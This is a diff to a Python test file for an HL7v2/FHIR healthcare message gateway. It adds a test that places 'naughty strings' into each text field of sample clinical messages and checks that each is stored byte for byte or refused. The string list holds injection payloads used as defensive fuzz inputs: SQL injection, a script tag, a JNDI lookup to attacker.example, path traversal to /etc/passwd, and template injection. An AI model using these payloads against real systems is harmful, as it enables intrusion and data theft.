@@ -1,23 +1,42 @@
 """Naughty strings in every string field: stored and read back byte for byte, or refused; never a 5xx, never a segment more."""
 
 import json
+from collections.abc import Callable, Iterator
+from functools import partial
 from typing import Any
 from urllib.parse import quote
 
 import pytest
+from sqlalchemy import select
 
 from fhir_profiles.peek import peek
 from fhir_profiles.shapes import Channel, Envelope, Json
 from fhir_profiles.translate import translate
 from gateway.api.routes import ROUTES, Route
-from tests.builders import adt_a01, fhir_message
+from gateway.steps.receive import receive
+from gateway.store.schema import message as message_row
+from tests.builders import (
+    METHADONE,
+    administration,
+    adt_a01,
+    adt_a03,
+    care_plan,
+    consent,
+    fhir_message,
+    medication_request,
+    oru_r01,
+    rde_o11,
+    risk_flag,
+)
 from tests.gateway.api.conftest import Http
 from tests.gateway.api.test_access import MATRIX, PUBLIC
-from tests.gateway.receive.line import rows, segments
+from tests.gateway.receive.line import FHIR_CHANNEL, HL7_CHANNEL, arrival, make_parts, rows, segments
 from tests.samples import samples_folder
 
 HL7 = Channel(name="ehr", format="hl7v2")
 FHIR = Channel(name="http-fhir", format="fhir")
+EVERY = 24
+"""Of the strings, each place meets one in so many; the next place the next ones."""
 ESCAPES = str.maketrans({"\\": "\\E\\", "|": "\\F\\", "^": "\\S\\", "&": "\\T\\", "~": "\\R\\"})
 FEW = ("", " ", "\u0000", "\r\rPID|2|", "\u000b\u001c\r", "\\.br\\", "\\X0D\\", '"; DROP TABLE message; --', "<script>alert(1)</script>",
        "${jndi:ldap://attacker.example/a}", "../../etc/passwd", "\u202etest\u202c", "\ufeff", "\U0001f600" * 50, "A" * 5_000, "{{7*7}}", "NaN")  # fmt: skip
@@ -187,6 +206,83 @@ def test_in_every_single_field_of_hl7_nothing_fails(text: str) -> None:
             body = b"\r".join(changed) + b"\r"
             if isinstance(peek(HL7, body), Envelope):
                 translate(HL7, body)
+
+
+def one_at_a_time() -> Iterator[tuple[str, Callable[[str, str], bytes]]]:
+    """(its name, the message with a text there and an id) of each text of each kind of message, with nothing else changed."""
+    for name, body in STORIES.items():
+        if body.startswith(b"{"):
+            document = json.loads(body)
+            for place in filter(is_free, leaves(document)):
+                yield f"{name} {place}", partial(with_string, document, place)
+        else:
+            for line, segment in enumerate(body.decode().split("\r")[:-1]):
+                for field in range(1, segment.count("|") + 1):
+                    if segment[:3] not in ("MSH", "EVN"):
+                        yield f"{name} {segment[:3]}-{field}", partial(with_field, body, line, field)
+
+
+def with_string(document: Json, place: tuple[str | int, ...], text: str, message_id: str) -> bytes:
+    changed = json.loads(json.dumps(document))
+    put(changed, place, text)
+    return json.dumps(changed, ensure_ascii=False).replace(AN_ID, message_id).encode("utf-8", "surrogatepass")
+
+
+def with_field(body: bytes, line: int, field: int, text: str, message_id: str) -> bytes:
+    lines = body.decode().split("\r")
+    fields = lines[line].split("|")
+    fields[field] = escaped(text)
+    lines[line] = "|".join(fields)
+    return "\r".join(lines).replace(AN_ID, message_id).encode("utf-8", "surrogatepass")
+
+
+CLINICAL = (
+    care_plan(start="2026-01-02", description="plan"),
+    administration(METHADONE, resource_id="dose", given="2026-01-15T08:05:00+00:00", text="supervised"),
+    medication_request(METHADONE, resource_id="rx", authored="2026-01-15", text="a dose", category="discharge"),
+    risk_flag(resource_id="risk", text="risk", start="2026-01-02"),
+    consent(resource_id="word", at="2026-01-02T09:00:00+00:00", decision="permit"),
+)
+AN_ID = "AN-ID"
+STORIES = {
+    "ADT^A01": adt_a01(message_id=AN_ID),
+    "ADT^A03": adt_a03(message_id=AN_ID),
+    "ORU^R01": oru_r01(message_id=AN_ID),
+    "RDE^O11": rde_o11(message_id=AN_ID),
+    "fhir-message": fhir_message(resources=CLINICAL, message_id=AN_ID),
+    "plan": fhir_message(resources=RESOURCES, message_id=AN_ID),
+}
+
+
+@pytest.mark.slow(seconds=30)
+@pytest.mark.samples
+async def test_one_at_a_time_in_every_text() -> None:
+    """Each text of the message by itself, so that what is refused for one of them hides no other. What every door hands on to: kept byte for byte, or
+    refused, and what is kept has a meaning or waits for a person.
+    """
+    texts, kept, met = naughty(), 0, set[str]()
+    places = list(one_at_a_time())
+    parts = make_parts()
+    for number, (name, message) in enumerate(places):
+        for text in texts[number % EVERY :: EVERY]:
+            body = message(text, f"O-{number}-{texts.index(text)}")
+            fhir = body.startswith(b"{")
+            received = await receive(parts, arrival(body, channel=FHIR_CHANNEL if fhir else HL7_CHANNEL))
+            met.add(text)
+            if not received.accepted:
+                continue
+            assert not received.duplicate, (name, text)
+            kept += 1
+            with parts.store.read() as c:
+                body_id = c.execute(
+                    select(message_row.c.body_id).where(message_row.c.id == received.message_id)
+                ).scalar_one()
+                assert parts.keys.unseal(c, body_id) == body, (name, text)
+            translate(FHIR if fhir else HL7, body)
+    parts.store.close()
+    assert len(places) > 150
+    assert met == set(texts)
+    assert kept > len(places) * len(texts) // EVERY // 2
 
 
 ASKED = [route for route in ROUTES if (route.method, route.path) in {*MATRIX, *PUBLIC}]
